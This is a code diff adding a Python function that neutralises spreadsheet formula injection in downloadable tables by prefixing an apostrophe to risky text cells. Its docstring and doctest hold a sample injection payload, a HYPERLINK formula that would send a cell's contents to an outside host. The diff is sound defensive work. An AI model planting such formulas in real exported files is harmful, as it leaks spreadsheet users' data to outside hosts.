@@ -89,6 +89,21 @@ def md_text(text: str, line_breaks: bool = True, at_line_start: bool = True) -> 
     return markdown if found else md_escape(text, line_breaks, at_line_start)
 
 
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+
+
+def table_safe(rows: list[dict]) -> list[dict]:
+    """Rows for a table a TA may download as CSV (``st.dataframe``'s download, the Citation check's):
+    a text cell that a spreadsheet would run as a formula (``=HYPERLINK("http://…?"&B2)``, starting
+    with = + - @, a tab or a return) gets a leading apostrophe, the OWASP advice, so it stays text.
+
+    >>> table_safe([{"q": '=HYPERLINK("http://x/?"&B2)', "n": -1, "c": "-> ok", "t": "什么是熵"}])
+    [{'q': '\\'=HYPERLINK("http://x/?"&B2)', 'n': -1, 'c': "'-> ok", 't': '什么是熵'}]
+    """
+    return [{k: "'" + v if isinstance(v, str) and v.startswith(_FORMULA_START) else v for k, v in row.items()}
+            for row in rows]
+
+
 def link_markers(answer: str, anchor_prefix: str) -> str:
     """The answer as :func:`md_text` (formulas rendered, the rest escaped), each [n] a link to the source n listed under it.
 
